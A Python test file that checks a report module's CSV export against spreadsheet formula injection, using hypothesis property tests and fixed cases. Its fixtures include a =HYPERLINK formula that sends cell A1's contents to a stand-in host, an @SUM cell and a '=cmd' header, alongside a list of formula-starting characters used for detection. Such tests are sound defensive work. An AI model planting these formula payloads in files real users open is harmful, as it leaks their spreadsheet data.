"""Rendering query results: CSV cells a spreadsheet shows and never runs (formula injection)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

import queries
from preflight_audit import report

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


class TestCsv:
    """Every CSV cell that a spreadsheet would read as a formula gets a leading quote; numbers stay numbers."""

    def test_formula_cells_are_neutralised(self) -> None:
        result = queries.Result(
            ("value", "note", "amount"),
            [
                ('=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1 555", -5),
                ("@SUM(A1:A9)", "-2+3", 500000),
                ("2200119", "plain text", 1.5),
            ],
        )
        rows = parsed(report.to_csv(result))
        assert rows[0] == ["value", "note", "amount"]
        assert rows[1] == ['\'=HYPERLINK("http://x.invalid/?"&A1,"click")', "'+1 555", "-5"]
        assert rows[2] == ["'@SUM(A1:A9)", "'-2+3", "500000"]
        assert rows[3] == ["2200119", "plain text", "1.5"]

    def test_a_header_is_neutralised_too(self) -> None:
        assert parsed(report.write_csv(["=cmd"], []))[0] == ["'=cmd"]

    @given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
    def test_no_text_cell_starts_a_formula_and_none_is_lost(self, cells: list[str]) -> None:
        back = parsed(report.write_csv([f"c{i}" for i in range(len(cells))], [cells]))[1]
        for original, cell in zip(cells, back, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell == ("'" + original if original.startswith(FORMULA_STARTS) else original)
